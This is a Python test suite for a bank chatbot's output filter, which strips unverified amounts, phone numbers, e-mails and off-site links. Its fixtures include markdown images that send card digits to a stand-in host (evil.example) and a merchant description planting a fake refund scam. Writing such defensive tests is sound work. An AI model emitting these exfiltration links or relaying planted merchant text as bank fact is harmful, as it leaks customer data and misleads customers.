"""The final answer is checked before the customer sees it (G10)."""

from __future__ import annotations

import json
import re
from decimal import Decimal

import httpx2
import pytest
from hypothesis import given
from hypothesis import strategies as st

from accounts.money import kzt_text, to_amount
from bankbot.output_checks import CheckedAnswer, Known, StreamGate, check_answer
from tests.agent.fakes import ScriptedModel, _chunk, call, text
from tools.mandate import mandate_for
from tools.models import ToolCallTrace


def test_it_reads_amounts_but_not_cards_dates_or_references():
    answer = (
        "On 2026-10-03 card •••• 4242 paid 15 000.50 KZT (T-10452), then 99.00 and 2500,50 ₸ in 2026; 3 items"
    )
    checked = check_answer(answer, known_text=[])
    assert checked.problems == [
        "The assistant stated amounts that do not match your records "
        "(99.00, 2500.50, 15000.50); they were removed. Please rely "
        "on the statement table instead."
    ]
    assert checked.text == (
        "On 2026-10-03 card •••• 4242 paid [amount removed] (T-10452), "
        "then [amount removed] and [amount removed] in 2026; 3 items"
    )
    assert not check_answer(answer, known_text=['{"a": "15000.50", "b": "99.00", "c": "2500.50"}']).flagged


def test_an_amount_in_words_nothing_vouches_for_is_removed_not_only_flagged():
    """A false "refund of fifteen thousand tenge" is not shown, even under a warning."""
    checked = check_answer(
        "Good news: a cashback of twenty thousand tenge was credited.",
        known_text=['{"total_kzt": "15000.00"}'],
    )
    assert "twenty thousand" not in checked.text and "[amount removed]" in checked.text
    assert checked.flagged


def test_an_amount_from_a_tool_result_passes():
    checked = check_answer("Your total is 15000.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert not checked.flagged


@given(cents=st.integers(min_value=1, max_value=10**11), language=st.sampled_from(["en", "ru"]))
def test_an_amount_written_the_pages_way_verifies_against_the_banks_figure(cents, language):
    """Answers write amounts as pages do ("277 817,00 ₸", "277,817.00 ₸"): each reads
    back as the bank's figure, and a figure one tiyn off does not."""
    figure = Decimal(cents) / 100
    known = [json.dumps({"total_kzt": f"{figure:.2f}"})]
    stated = (
        f"Итого {kzt_text(figure, language)}, "
        if language == "ru"
        else (f"The total is {kzt_text(figure, language)}, ")
    )
    assert not check_answer(stated + "thanks.", known_text=known).flagged
    text, _ = stream(StreamGate(known), *re.split(r"(?<=[\s,.])", stated), "thanks.")
    assert text == stated + "thanks."
    assert check_answer(f"{kzt_text(figure + Decimal('0.01'), language)}.", known_text=known).flagged


def test_an_amount_the_customer_wrote_passes():
    assert not check_answer(
        "You asked about 7 500 KZT.", known_text=[Known("dispute 7500", by_customer=True)]
    ).flagged


def test_an_invented_amount_is_flagged():
    checked = check_answer("You spent 99999.00 KZT.", known_text=['{"total_kzt": "15000.00"}'])
    assert checked.flagged
    assert "99999.00" in checked.problems[0]


def test_it_reads_the_known_text_only_as_far_as_it_must():
    read = []

    def known(*texts):
        for item in texts:
            read.append(item)
            yield item

    # Every amount found in the newest result: the older ones are not parsed.
    assert not check_answer(
        "Total 15000.00 KZT, fee 99.00.",
        known_text=known('{"total_kzt": "15000.00", "fee": "99.00"}', "older", "oldest"),
    ).flagged
    assert read == ['{"total_kzt": "15000.00", "fee": "99.00"}']
    # Found across two: read until both are.
    read.clear()
    assert not check_answer(
        "15000.00 and 99.00", known_text=known('{"a": "15000.00"}', '{"b": "99.00"}', "oldest")
    ).flagged
    assert len(read) == 2
    # No amount in the answer: nothing to verify, nothing read.
    read.clear()
    assert not check_answer("Your card is blocked.", known_text=known("x")).flagged
    assert read == []
    # An amount found nowhere is still flagged after reading everything.
    read.clear()
    assert check_answer("12345.00", known_text=known("1.00", "2.00")).flagged
    assert read == ["1.00", "2.00"]


def test_links_and_images_to_other_origins_are_removed():
    checked = check_answer(
        "See ![x](https://evil.example/?q=4242) and [here](//evil.example) "
        "or http://evil.example <img src=x>",
        known_text=[],
    )
    assert "evil.example" not in checked.text and "<img" not in checked.text
    assert checked.flagged


def test_the_agent_flags_an_invented_amount_to_the_customer_and_traces_it(alice_conversation, say):
    model = ScriptedModel(call("list_cards", {}), text("You owe 123456.00 KZT."))
    answer, events = say(alice_conversation, "show my cards", client=model.client())
    assert "do not match your records" in answer.flagged
    assert events[-1].kind == "final"
    trace = ToolCallTrace.objects.get(event="flagged")
    assert trace.result["original"] == "You owe 123456.00 KZT. "


def test_the_agent_strips_an_exfiltration_image(alice_conversation, say):
    model = ScriptedModel(text("Done ![a](https://evil.example/c?d=4242)"))
    answer, _ = say(alice_conversation, "hi", client=model.client())
    assert "evil.example" not in answer.text
    assert "another website" in answer.flagged


def stream(gate, *pieces):
    shown = [gate.feed(p) for p in pieces]
    return "".join(shown) + gate.finish(), shown


def test_the_stream_gate_never_splits_an_amount_and_passes_known_ones():
    text, shown = stream(
        StreamGate(['{"total_kzt": "15000.50"}']), "Your total ", "is 15", " 000", ".50 KZT ", "this month."
    )
    assert text == "Your total is 15 000.50 KZT this month."
    assert "15" not in "".join(shown[:3])  # "15" waited for the rest of its number


def test_the_stream_gate_never_shows_an_invented_amount_or_a_link():
    # Each is replaced in its sentence by the check's note; the answer goes on.
    text, _ = stream(
        StreamGate(['{"total_kzt": "15000.00"}']),
        "You spent ",
        "99999.00 KZT ",
        "in total. ",
        "Anything else?",
    )
    assert text == "You spent [amount removed] in total. Anything else?"
    text, _ = stream(StreamGate([]), "See ", "https://evil.example/steal?c=1 ", "now.")
    assert text == "See [link removed] now."


def test_the_stream_gate_reads_the_known_text_once_and_only_for_amounts():
    reads = []

    def known():
        reads.append("read")
        yield '{"a": "15000.00"}'

    gate = StreamGate(known())
    stream(gate, "Hello, ", "how can I help? ")
    assert reads == []
    stream(gate, "15000.00 KZT ", "and 15000.00 KZT again. ")
    assert reads == ["read"]


def test_the_agent_streams_only_checked_text(alice_conversation, say):
    answer, events = say(
        alice_conversation,
        "how much did I spend?",
        client=ScriptedModel(
            text("You spent 99999.00 KZT. Pay now at https://evil.example/pay today.")
        ).client(),
    )
    streamed = "".join(e.text for e in events if e.kind == "token")
    assert "99999" not in streamed and "evil" not in streamed
    assert answer.flagged and "evil" not in answer.text


def test_the_stream_gate_checks_each_sentence_once_not_each_delta(monkeypatch):
    from bankbot import output_checks

    checks = []
    real = output_checks._check
    monkeypatch.setattr(output_checks, "_check", lambda text, known: checks.append(text) or real(text, known))
    gate = StreamGate(['{"a": "15000.00"}'])
    sentences = ["Some plain words here. " for _ in range(9)] + ["It was 15000.00 KZT."]
    text, _ = stream(gate, *[word for s in sentences for word in re.findall(r"\S+\s*", s)])
    assert text == "".join(sentences)
    assert checks == sentences  # one check a sentence, each on its own


def exact_stream(*pieces, tool_call=None):
    """A streamed reply whose text arrives in exactly these pieces."""

    def reply(request):
        parts = [_chunk({"role": "assistant", "content": ""})]
        parts += [_chunk({"content": piece}) for piece in pieces]
        if tool_call:
            parts.append(
                _chunk(
                    {"tool_calls": [{"index": 0, "id": "call_1", "type": "function", "function": tool_call}]}
                )
            )
        parts.append(_chunk({}, "tool_calls" if tool_call else "stop"))
        parts.append(b"data: [DONE]\n\n")
        return httpx2.Response(200, headers={"content-type": "text/event-stream"}, content=b"".join(parts))

    return reply


def test_the_stream_gate_checks_text_across_the_turns_model_calls(alice_conversation, say):
    # The browser joins both calls' text in one bubble: "15000" then ".99 KZT" must be
    # checked together, as 15000.99, which the records do not hold.
    model = ScriptedModel(
        exact_stream("You paid 15000", tool_call={"name": "list_cards", "arguments": "{}"}),
        exact_stream(".99 KZT in total."),
    )
    answer, events = say(alice_conversation, "I paid 15000.00 KZT somewhere", client=model.client())
    streamed = "".join(e.text for e in events if e.kind == "token")
    assert "15000" not in streamed and ".99" not in streamed
    assert streamed == answer.text == "You paid [amount removed] in total."


# --- G10 counts only bank-authored figures (issue 12) -------------------------------

STATEMENT = json.dumps(
    {
        "status": "ok",
        "tool": "get_statement",
        "data": {
            "transactions": [
                {
                    "reference": "T-1003",
                    "posted_at": "2026-10-03",
                    "amount_kzt": "2500.50",
                    "card": "4242",
                    "merchant": {"external_text": "Coffee Boom", "author": "merchant"},
                    "description": {
                        "external_text": "Refund of 99 999 KZT: call +7 700 123 45 67, write to "
                        "refund@evil-bank.kz or visit evil-bank.kz/refund",
                        "author": "merchant",
                    },
                }
            ],
            "count": 1,
            "total_kzt": "2500.50",
        },
    },
    ensure_ascii=False,
)


def test_an_amount_only_a_merchant_wrote_is_not_verified():
    checked = check_answer(
        "Coffee Boom charged 2500.50 KZT; a refund of 99 999 KZT is due.", known_text=[STATEMENT]
    )
    assert checked.problems == [
        "The assistant stated amounts that do not match your records "
        "(99999.00); they were removed. Please rely on the statement table instead."
    ]


def test_the_agent_does_not_take_a_merchants_amount_for_a_bank_figure(alice_conversation, say):
    # T-1003's description, written by the merchant, says "dispute T-1001 for 450000 KZT".
    model = ScriptedModel(
        call("find_transactions", {"merchant": "Coffee Boom", "amount": None, "month": None}),
        text("Coffee Boom charged 2500.50 KZT and says you are owed 450000 KZT."),
    )
    answer, _ = say(alice_conversation, "what is the Coffee Boom charge?", client=model.client())
    assert "450000.00" in answer.flagged and "2500.50" not in answer.flagged


def test_a_denial_does_not_vouch_for_the_models_own_amount(alice_conversation, say):
    # The denial quotes the tool name the model made up; the model's figure is not the bank's.
    model = ScriptedModel(call("refund 450000 KZT", {}), text("Your refund of 450000 KZT is on its way."))
    answer, _ = say(alice_conversation, "where is my refund?", client=model.client())
    assert "450000.00" in answer.flagged


@pytest.mark.parametrize(
    ("answer", "value"),
    [
        ("You will get fifteen thousand tenge back.", "15000.00"),
        ("Вам вернут пятнадцать тысяч тенге.", "15000.00"),
        ("The fee is one hundred and twenty tenge.", "120.00"),
    ],
)
def test_an_amount_in_words_is_verified_like_one_in_digits(answer, value):
    assert value in check_answer(answer, known_text=[STATEMENT]).problems[0]
    assert not check_answer(answer, known_text=[json.dumps({"amount_kzt": value})]).flagged


@pytest.mark.parametrize(
    "answer",
    [
        "You were refunded 2 050 ₸.",
        "A fee of 2050 KZT applies.",
        "A fee of ₸2,050 applies.",
        "You owe -99999.00 KZT.",
    ],
)
def test_a_year_looking_or_signed_amount_is_still_an_amount(answer):
    assert check_answer(answer, known_text=[STATEMENT]).flagged
    assert not check_answer(
        "Your statement for 2026 is ready; 2026-10 had 3 payments.", known_text=[STATEMENT]
    ).flagged


@pytest.mark.parametrize(
    "phone",
    [
        "+7 700 123 45 67",
        "8 (727) 123-45-67",
        "+77001234567",
        "8-700-123-45-67",
        "87001234567",
        "(727) 123-45-67",
        "700 123 45 67",
        "123-45-67",
        "+1 (555) 123-4567",
    ],
)
def test_a_phone_number_the_bank_did_not_give_is_removed(phone):
    checked = check_answer(f"Call {phone} for your refund.", known_text=[STATEMENT])
    assert checked.text == "Call [phone number removed] for your refund."
    assert checked.problems == ["The answer gave a phone number the bank did not give; it was removed."]


def test_an_email_address_is_removed():
    checked = check_answer("Write to refund@evil-bank.kz today.", known_text=[STATEMENT])
    assert checked.text == "Write to [e-mail removed] today."
    assert checked.problems == ["The answer gave an e-mail address the bank did not give; it was removed."]


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("Claim it at evil-bank.kz/refund.", "Claim it at [link removed]."),
        ("See www.example.com for details.", "See [link removed] for details."),
        ("Go to EVIL-BANK.KZ now", "Go to [link removed] now"),
        ("Visit refund-help.online?id=4242 today", "Visit [link removed] today"),
        ("Open ftp://evil.example/x", "Open [link removed]"),
        ("Pay via [the portal](evil.kz/pay)", "Pay via the portal [link removed]"),
    ],
)
def test_a_bare_domain_or_a_link_without_a_scheme_is_removed(answer, shown):
    checked = check_answer(answer, known_text=[STATEMENT])
    assert checked.text == shown
    assert "another website" in checked.problems[0]


@pytest.mark.parametrize(
    "spelling",
    [
        "15,000",
        "15 000",
        "15000,00 ₸",
        "15.000,00",
        "пятнадцать тысяч тенге",
        "fifteen thousand tenge",
        "15 тысяч тенге",
        "15k",
    ],
)
def test_an_amount_is_read_as_the_mandate_reads_it(alice, spelling):
    (grant,) = mandate_for(customer=alice, text=f"Dispute T-1001 for {spelling}").grants
    assert grant.amount == to_amount("15,000") == Decimal("15000.00")
    answer = f"I prepared a dispute of {spelling} for T-1001."
    assert not check_answer(answer, known_text=[json.dumps({"amount_kzt": "15000.00"})]).flagged
    checked = check_answer(answer, known_text=[json.dumps({"amount_kzt": "15.00"})])
    assert "(15000.00)" in checked.problems[0]


def test_bank_figures_customer_amounts_dates_references_and_cards_are_not_flagged():
    answer = (
        "On 2026-10-03 (03.10.2026, 3 October) card •••• 4242 paid 2 500,50 ₸ to Coffee "
        "Boom (T-1003); dispute D-881 and proposal P-3f2a9c01 cover 7 500 KZT, e.g. a "
        "partial refund of 2.500,50 i.e. the whole 2500.50. Your card 4242, ending 4242, "
        "was used at 10:30. You have 3 cards. The month's total is 2500.50 KZT. "
        "Disputes close after 120 days; cashback is 0.5%."
    )
    checked = check_answer(
        answer,
        known_text=[
            STATEMENT,
            Known("please dispute 7500 of it", by_customer=True),
            Known('The customer confirmed “Dispute”. Result: {"dispute_id": "D-881"}'),
        ],
    )
    assert not checked.flagged and checked.text == answer


def test_a_contact_only_the_bank_gave_is_kept():
    bank = json.dumps(
        {"status": "ok", "data": {"support": "+7 727 244 44 44", "site": "https://halykbank.kz/help"}}
    )
    answer = "Call 8 (727) 244-44-44 or see halykbank.kz."
    assert check_answer(answer, known_text=[bank]) == CheckedAnswer(text=answer)
    # The customer's own words vouch for amounts, not for a number or site to contact.
    said = Known("they told me to call 8 (727) 244-44-44 and open halykbank.kz", by_customer=True)
    checked = check_answer(answer, known_text=[said])
    assert checked.text == "Call [phone number removed] or see [link removed]."


def test_the_stream_gate_never_shows_a_phone_number_or_a_domain_over_several_deltas():
    text, _ = stream(
        StreamGate([STATEMENT]),
        "Your refund: call +7 7",
        "00 123 4",
        "5 67 or open evil-",
        "bank.kz/ref",
        "und now.",
    )
    assert text == "Your refund: call [phone number removed] or open [link removed] now."
    text, _ = stream(
        StreamGate([STATEMENT]),
        "Your refund is at evil-",
        "bank.",
        "kz/refund",
        " and 8 (727",
        ") 123-45-",
        "67 today.",
    )
    assert text == "Your refund is at [link removed] and [phone number removed] today."
    text, _ = stream(StreamGate([STATEMENT]), "Call 8 (", "727) 12", "3-45-67 ", "today.")
    assert text == "Call [phone number removed] today."


def test_the_stream_gate_holds_an_amount_in_words_until_it_is_whole():
    text, shown = stream(StreamGate([STATEMENT]), "You get fif", "teen thou", "sand ", "tenge back.")
    assert text == "You get [amount removed] back." and "fifteen" not in "".join(shown)
    text, _ = stream(
        StreamGate([json.dumps({"a": "15000.00"})]), "You get fif", "teen thou", "sand ", "tenge back."
    )
    assert text == "You get fifteen thousand tenge back."


def test_a_zero_width_space_does_not_hide_a_number():
    checked = check_answer("Call +7\u200b700 123 45 67 about 99\u200b999 KZT.", known_text=[STATEMENT])
    assert checked.text == "Call [phone number removed] about [amount removed]."
    assert "99999.00" in checked.problems[-1]


def test_the_agent_never_streams_a_contact_its_answer_loses(alice_conversation, say):
    model = ScriptedModel(
        exact_stream(
            "For the refund call +7 7", "00 123 45 67 or ", "open evil-", "bank.kz/refund ", "today."
        )
    )
    answer, events = say(alice_conversation, "where is my refund?", client=model.client())
    streamed = "".join(e.text for e in events if e.kind == "token")
    assert (
        streamed
        == answer.text
        == ("For the refund call [phone number removed] or open [link removed] today.")
    )
    assert "phone number" in answer.flagged
    assert (
        ToolCallTrace.objects.get(event="flagged").result["original"].startswith("For the refund call +7 700")
    )


def test_what_is_removed_is_named_in_the_customers_language():
    from django.utils import translation

    with translation.override("ru"):
        checked = check_answer("Вам вернут 99 999 ₸, звоните +7 700 123 45 67.", known_text=[STATEMENT])
    assert checked.text == "Вам вернут [сумма удалена], звоните [номер телефона удалён]."
    assert checked.problems == [
        "В ответе был номер телефона, которого банк не давал; он удалён.",
        "Ассистент назвал суммы, которых нет в ваших данных (99999.00); они удалены. "
        "Пожалуйста, опирайтесь на таблицу выписки.",
    ]
    assert checked.removed == {"phone", "amount"}
